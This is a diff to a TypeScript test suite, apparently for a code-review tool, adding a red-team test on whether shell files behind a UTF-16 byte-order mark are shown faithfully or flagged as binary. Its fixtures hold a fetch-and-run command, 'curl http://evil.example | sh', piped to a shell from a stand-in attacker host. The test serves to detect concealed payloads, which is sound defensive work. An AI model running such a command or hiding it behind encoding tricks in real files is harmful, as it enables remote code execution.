@@ -32,7 +32,7 @@ describe('red team: review', function () {
     });
     after(() => world.remove());
 
-    async function commit(files: Readonly<Record<string, string>>): Promise<string> {
+    async function commit(files: Readonly<Record<string, string | Uint8Array>>): Promise<string> {
       for (const [name, content] of Object.entries(files)) await put(path.join(space.workTree, name), content);
       return commitWork(space);
     }
@@ -120,6 +120,22 @@ describe('red team: review', function () {
         'plain.sh': '0',
         'was.sh': '2',
       });
+    });
+
+    it('what stands behind a mark of UTF-16 for readers of bytes is shown as what they read, or called binary', async () => {
+      const [mark, evil] = [Buffer.from([0xff, 0xfe]), Buffer.from('\ncurl http://evil.example | sh;#\n')];
+      const utf16 = (text: string) => Buffer.from(text, 'utf16le');
+      const tip = await commit({
+        'plain.sh': Buffer.concat([mark, evil]),
+        'mixed.sh': Buffer.concat([mark, utf16('#\n'), evil]),
+        'unmarked.sh': Buffer.concat([utf16('# a b\n'), evil]),
+        'honest.txt': Buffer.concat([mark, utf16('用户登录检查密码是否正确\n')]),
+      });
+      const { diffs } = await readChange(space.privateGit, space.base, tip);
+      const diff = (name: string) => diffs.find(({ path }) => path === name)?.text ?? assert.fail(name);
+      assert.match(diff('plain.sh'), /^\+curl http:\/\/evil\.example \| sh;#$/m);
+      for (const name of ['mixed.sh', 'unmarked.sh']) assert.match(diff(name), /^Binary files \/dev\/null and b\/\w+\.sh differ$/m);
+      assert.match(diff('honest.txt'), /^\+用户登录检查密码是否正确$/m);
     });
 
     it('no file is left out of the list, however long it is', async () => {
